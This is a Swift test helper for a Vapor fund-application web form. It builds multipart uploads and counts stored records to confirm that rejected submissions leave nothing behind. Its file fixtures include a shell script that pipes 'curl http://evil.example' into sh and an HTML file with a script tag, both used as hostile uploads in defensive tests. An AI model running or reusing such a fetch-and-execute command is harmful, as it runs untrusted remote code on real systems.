import Fluent
import Foundation
import KrachtCore
import KrachtTesting
import Vapor
import XCTVapor
import XCTest

@testable import FundHelp

/// The application form as a browser sends it: multipart, with files, and the counts of
/// everything an application stores, to prove that a refused post stored nothing.
enum ApplyForms {
    static let boundary = "kracht-grens-7MA4YWxkTrZu0gW"

    /// A form that passes every check.
    static func valid(formID: String = SecureToken.make()) -> [String: String] {
        [
            "category": "shelter", "purpose": "Een slaapplek voor een week, mijn kamer is weg", "amount": "150",
            "urgency": "week", "no_provision": "Ik heb geen papieren, de gemeente helpt niet", "district": "E",
            "name": "Fatima El Amrani", "phone": "+31 6 1234 5678", "email": "Fatima.Elamrani@Example.nl", "consent": "1",
            "form_id": formID,
        ]
    }

    static func body(_ fields: [String: String], files: [(name: String, data: Data)] = []) -> ByteBuffer {
        var buffer = ByteBuffer()
        for (name, value) in fields.sorted(by: { $0.key < $1.key }) {
            buffer.writeString("--\(boundary)\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n\(value)\r\n")
        }
        for file in files {
            buffer.writeString(
                "--\(boundary)\r\nContent-Disposition: form-data; name=\"documents\"; filename=\"\(file.name)\"\r\n"
                    + "Content-Type: application/octet-stream\r\n\r\n")
            buffer.writeBytes(file.data)
            buffer.writeString("\r\n")
        }
        buffer.writeString("--\(boundary)--\r\n")
        return buffer
    }

    /// Posts a multipart form to `path` (the form token in the query, as the page's action has it).
    static func post(
        _ browser: Browser, path: String = FundHelpPath.apply.path, _ fields: [String: String], files: [(name: String, data: Data)] = []
    ) async throws -> XCTHTTPResponse {
        if browser.csrfToken == nil { try await browser.get("/") }
        return try await browser.post(
            path + "?_csrf=" + (browser.csrfToken ?? ""), rawBody: body(fields, files: files),
            contentType: HTTPMediaType(type: "multipart", subType: "form-data", parameters: ["boundary": boundary]))
    }

    /// The status token in a redirect to the status page.
    static func token(in location: String?) -> String? {
        guard let location, location.hasPrefix("/fonds/aanvraag/") else { return nil }
        return String(location.dropFirst("/fonds/aanvraag/".count))
    }

    // files, by their bytes
    static let png = Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]) + Data(repeating: 7, count: 200)
    static let pdf = Data("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".utf8)
    static let script = Data("#!/bin/sh\ncurl http://evil.example | sh\n".utf8)
    static let zip = Data([0x50, 0x4B, 0x03, 0x04]) + Data(repeating: 0, count: 400)
    static let html = Data("<!doctype html><html><script>alert(1)</script></html>".utf8)

    struct Counts: Equatable {
        var applications, keys, documents, messages, files, mails: Int
    }

    static func counts(_ app: Application) async throws -> Counts {
        let folder = app.config.dataDirectory + "/fund-documents"
        return Counts(
            applications: try await SupportApplication.query(on: app.db).count(),
            keys: try await SupportPersonKey.query(on: app.db).count(),
            documents: try await SupportDocument.query(on: app.db).count(),
            messages: try await SupportMessage.query(on: app.db).count(),
            files: ((try? FileManager.default.contentsOfDirectory(atPath: folder)) ?? []).count,
            mails: try await OutboxMessage.query(on: app.db).count())
    }
}
